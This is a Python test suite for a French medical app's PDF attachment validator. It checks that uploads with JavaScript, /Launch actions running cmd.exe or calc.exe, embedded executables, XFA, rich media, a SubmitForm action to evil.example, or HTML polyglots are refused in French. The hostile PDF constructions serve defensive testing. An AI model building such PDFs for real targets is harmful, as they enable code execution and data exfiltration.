"""Attachments with active content (JavaScript, launch, embedded files, automatic actions,
rich media, XFA) and PDF/HTML polyglots are refused, in French, naming what was found; the
check runs before the upload's database transaction."""

from __future__ import annotations

import html
import io

import pikepdf
import pytest
from sqlalchemy import select

from rcp_app.cases import attachments
from rcp_app.cases.models import Attachment
from rcp_app.extensions import db

Name, Dictionary, String, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.String, pikepdf.Array


def _js(pdf):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _open_action_js(pdf):
    pdf.Root.OpenAction = _js(pdf)


def _names_javascript(pdf):
    tree = Dictionary(Names=Array([String("x"), _js(pdf)]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def _launch(pdf):
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(action))


def _launch_on_link(pdf):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 10, 10]),
        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _embedded_file(pdf):
    stream = pdf.make_stream(b"MZ payload", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), spec])))


def _additional_actions(pdf):
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))


def _rich_media(pdf):
    annot = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 10, 10]),
        RichMediaContent=Dictionary(),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _submit_form(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def _build(mutate=None, compress: bool = True) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if mutate is not None:
        mutate(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=compress)
    return buffer.getvalue()


# (how to make the PDF active, what the refusal must name)
ACTIVE = [
    (_open_action_js, "du JavaScript"),
    (_names_javascript, "du JavaScript"),
    (_launch, "une commande de lancement de programme (/Launch)"),
    (_launch_on_link, "une commande de lancement de programme (/Launch)"),
    (_embedded_file, "des fichiers incorporés"),
    (_additional_actions, "des actions automatiques (/AA)"),
    (_rich_media, "du contenu multimédia actif (/RichMedia)"),
    (_xfa, "un formulaire XFA"),
    (_submit_form, "une action d'envoi ou d'import de données"),
]


@pytest.fixture
def case(make):
    return make.case(rcp_id=make.rcp(weekday=None).id)


def _upload(client, case_id, data: bytes):
    return client.post(
        f"/dossiers/{case_id}/pieces-jointes",
        data={"kind": "pathology", "file": (io.BytesIO(data), "cr.pdf")},
        content_type="multipart/form-data",
    )


def _stored(app, case_id) -> list:
    with app.app_context():
        return db.session.scalars(select(Attachment.id).where(Attachment.case_id == case_id)).all()


@pytest.mark.parametrize(("mutate", "named"), ACTIVE, ids=[m.__name__ for m, _ in ACTIVE])
def test_active_content_is_refused_in_french(app, client, login, case, mutate, named):
    login("physician")
    data = _build(mutate)
    refusal = attachments.pdf_refusal(data, 10**7)
    assert refusal is not None and refusal.field == "file"
    assert refusal.message.startswith("Pièce jointe refusée : le PDF contient ")
    assert named in refusal.message
    response = _upload(client, case.id, data)
    assert response.status_code == 200
    assert refusal.message in html.unescape(response.get_data(as_text=True))
    assert _stored(app, case.id) == []


def test_the_message_names_javascript_exactly():
    assert attachments.pdf_refusal(_build(_names_javascript), 10**7).message == (
        "Pièce jointe refusée : le PDF contient du JavaScript."
    )


def _html_in_a_comment() -> bytes:
    header, rest = _build().split(b"\n", 1)
    return header + b"\n%<html><script>alert(1)</script>\n" + rest


def _svg_in_a_stream() -> bytes:
    return _build(
        lambda pdf: setattr(pdf.Root, "X", pdf.make_stream(b"<svg onload=x>")), compress=False
    )


def _iframe_after_the_end() -> bytes:
    return _build() + b"<IFRAME src=x>"


@pytest.mark.parametrize("polyglot", [_html_in_a_comment, _svg_in_a_stream, _iframe_after_the_end])
def test_pdf_html_polyglots_are_refused(app, client, login, case, polyglot):
    login("physician")
    data = polyglot()
    assert data.startswith(b"%PDF-")
    page = html.unescape(_upload(client, case.id, data).get_data(as_text=True))
    assert "Pièce jointe refusée : le PDF contient du code HTML" in page
    assert _stored(app, case.id) == []


def test_bytes_before_the_pdf_header_are_refused(app, client, login, case):
    login("physician")
    page = html.unescape(
        _upload(client, case.id, b"<!doctype html>\n" + _build()).get_data(as_text=True)
    )
    assert "n'est pas un PDF" in page
    assert _stored(app, case.id) == []


def test_a_plain_pdf_with_a_harmless_opening_page_is_accepted(app, client, login, case):
    login("physician")

    def go_to_first_page(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])

    response = _upload(client, case.id, _build(go_to_first_page))
    assert response.status_code == 302
    assert len(_stored(app, case.id)) == 1


def test_a_malformed_pdf_gets_the_french_refusal(monkeypatch):
    def broken(*_args, **_kwargs):
        raise pikepdf.PdfError("damaged xref")

    monkeypatch.setattr(pikepdf, "open", broken)
    refusal = attachments.pdf_refusal(_build(), 10**7)
    assert refusal is not None and "endommagé ou illisible" in refusal.message


def test_the_check_runs_with_no_transaction_open(app, client, login, case, monkeypatch):
    login("physician")
    seen = []
    original = attachments.check_pdf

    def spy(data, max_bytes):
        seen.append(db.session().in_transaction())
        return original(data, max_bytes)

    monkeypatch.setattr(attachments, "check_pdf", spy)
    assert _upload(client, case.id, _build()).status_code == 302
    assert seen == [False]
